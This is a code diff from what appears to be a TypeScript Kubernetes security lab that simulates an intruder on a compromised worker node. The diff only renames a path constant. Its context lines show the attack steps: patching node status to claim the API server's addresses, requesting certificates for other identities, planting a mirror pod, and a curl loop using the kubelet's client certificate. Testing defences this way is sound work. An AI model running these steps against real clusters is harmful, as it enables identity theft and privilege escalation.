@@ -8,7 +8,7 @@ import { KIT, note, type Scene, sayAndWait } from "../scene/scene.ts";
 import { mirrorPodOfKubelet, squatterOn } from "./objects.ts";
 import { clientWishes, servingWishes, signingRequests, stolenNames } from "./requests.ts";
 
-const HOME = "/root/intruder";
+export const INTRUDER_HOME = "/root/intruder";
 const UNIT = "intruder";
 const CERT = "/var/lib/kubelet/pki/kubelet-client-current.pem";
 
@@ -28,8 +28,8 @@ export function compromisedWorker({ workers }: Lab): Machine {
 export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
   const { lab } = scene;
   const node = compromisedWorker(lab);
-  mkdirSync(node.path(HOME), { recursive: true, mode: 0o700 });
-  const write = (file: string, text: string) => writeFileSync(node.path(`${HOME}/${file}`), text, { mode: 0o700 });
+  mkdirSync(node.path(INTRUDER_HOME), { recursive: true, mode: 0o700 });
+  const write = (file: string, text: string) => writeFileSync(node.path(`${INTRUDER_HOME}/${file}`), text, { mode: 0o700 });
   write("status.json", JSON.stringify({ status: { addresses: claimed(lab) } }));
   write("client.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(clientWishes(lab)) }));
   write("serving.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(servingWishes(lab)) }));
@@ -38,7 +38,7 @@ export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
   const cp = lab.controlPlanes[0]!.nodeName;
   write("mirror.json", JSON.stringify(mirrorPodOfKubelet(`keepalived-${cp}`, own, await squattersUid(lab, cp))));
   await tryMirrors(scene, node, own);
-  await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${HOME}/run.sh`]);
+  await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${INTRUDER_HOME}/run.sh`]);
   await lieIsBelieved(scene);
   note(
     scene,
@@ -69,7 +69,7 @@ function script({ nodeName }: Machine, joins: boolean): string {
   const kubeconfig = "--kubeconfig /etc/kubernetes/kubelet.conf --request-timeout=5s";
   const curl = `curl -sSk --max-time 5 --cert ${CERT} -o answer.json -w '%{http_code}'`;
   const api = `https://${ENDPOINT}/api/v1`;
-  return `cd ${HOME}
+  return `cd ${INTRUDER_HOME}
 until [ -e stop ]; do
   case $(${curl} -X PATCH -H 'Content-Type: application/merge-patch+json' --data @status.json ${api}/nodes/${nodeName}/status) in
     200) systemctl kill --signal=CONT kubelet; spoke=1 ;;
@@ -126,23 +126,23 @@ export async function lieIsBelieved(scene: Scene) {
   };
   await sayAndWait(scene, `the Node ${name} to have the API's names`, believed, {
     seconds: 60,
-    hint: `read ${HOME}/status.log on the worker, with --keep`,
+    hint: `read ${INTRUDER_HOME}/status.log on the worker, with --keep`,
   });
 }
 
 /** Waits until the attacker has sent all his CSRs: from then on the repair decides about them. */
 export async function intruderHasAsked(scene: Scene) {
   const node = compromisedWorker(scene.lab);
-  await sayAndWait(scene, `${node.name} to ask for other identities`, () => existsSync(node.path(`${HOME}/asked`)), {
+  await sayAndWait(scene, `${node.name} to ask for other identities`, () => existsSync(node.path(`${INTRUDER_HOME}/asked`)), {
     seconds: 120,
-    hint: `read ${HOME}/*.log on the worker, with --keep`,
+    hint: `read ${INTRUDER_HOME}/*.log on the worker, with --keep`,
   });
 }
 
 /** The names of the CSRs that the API server created, and its answers to the others. */
 export function intruderAsked({ lab }: Scene): { taken: string[]; refused: string[] } {
   const node = compromisedWorker(lab);
-  const logs = ["client.log", "serving.log"].map((file) => node.path(`${HOME}/${file}`)).filter(existsSync);
+  const logs = ["client.log", "serving.log"].map((file) => node.path(`${INTRUDER_HOME}/${file}`)).filter(existsSync);
   const lines = logs.flatMap((file) => readFileSync(file, "utf8").trim().split("\n"));
   const created = /^certificatesigningrequest\.certificates\.k8s\.io\/(\S+) created$/;
   return {
